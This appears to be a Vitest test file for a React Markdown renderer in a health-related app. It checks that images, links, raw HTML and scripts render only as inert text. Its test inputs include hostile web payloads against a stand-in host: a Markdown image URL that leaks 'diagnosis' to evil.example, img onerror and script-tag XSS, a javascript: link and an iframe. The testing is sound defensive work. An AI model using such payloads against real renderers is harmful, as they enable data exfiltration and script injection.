import { render } from '@testing-library/react';
import { describe, expect, it } from 'vitest';
import { Markdown } from './Markdown';

function html(text: string) {
  const { container } = render(<Markdown text={text} />);
  return container;
}

describe('<Markdown>', () => {
  it('renders ordinary Markdown: emphasis, lists, code, tables', () => {
    const c = html('**LDL** was *96* mg/dL [1].\n\n- one\n- two\n\n1. first\n\n`code`\n\n| a | b |\n|---|---|\n| 1 | 2 |');
    expect(c.querySelector('strong')?.textContent).toBe('LDL');
    expect(c.querySelector('em')?.textContent).toBe('96');
    expect(c.querySelectorAll('ul li')).toHaveLength(2);
    expect(c.querySelector('ol li')?.textContent).toBe('first');
    expect(c.querySelector('code')?.textContent).toBe('code');
    expect(c.querySelector('table td')?.textContent).toBe('1');
    expect(c.textContent).toContain('[1]');
  });

  it('never renders images, remote or otherwise', () => {
    const c = html('Look ![secret](https://evil.example/leak?q=diagnosis) here <img src="https://evil.example/x.png" onerror="alert(1)">');
    expect(c.querySelector('img')).toBeNull();
    expect(c.innerHTML).not.toContain('evil.example/leak');
    expect(c.querySelector('[onerror]')).toBeNull();
    expect(c.textContent).toContain('[image: secret]');
  });

  it('renders links and bare URLs as plain text, never as anchors', () => {
    const c = html('See [my portal](https://evil.example/?data=abc) or https://evil.example/auto and <https://evil.example/angle> and www.evil.example');
    expect(c.querySelector('a')).toBeNull();
    expect(c.querySelector('[href]')).toBeNull();
    expect(c.textContent).toContain('my portal');
    expect(c.textContent).not.toContain('?data=abc');
    expect(c.textContent).toContain('https://evil.example/auto');
  });

  it('shows raw HTML and scripts as inert text', () => {
    const c = html(
      'Hello <script>alert(1)</script>\n\n<div onclick="x()">block</div>\n\n<iframe src="https://evil.example"></iframe>\n\n<a href="javascript:alert(1)">x</a>',
    );
    expect(c.querySelector('script')).toBeNull();
    expect(c.querySelector('iframe')).toBeNull();
    expect(c.querySelector('div[onclick]')).toBeNull();
    expect(c.querySelector('a')).toBeNull();
    expect(c.textContent).toContain('<script>alert(1)</script>');
  });

  it('keeps characters that marked escapes (&, <, quotes) readable', () => {
    const c = html('Blood pressure < 120 & "normal" isn\'t bad');
    expect(c.textContent).toContain('Blood pressure < 120 & "normal" isn\'t bad');
  });

  it('copes with half-written Markdown while streaming', () => {
    expect(() => html('**bold but unfinished\n\n```js\nconst x = ')).not.toThrow();
  });
});
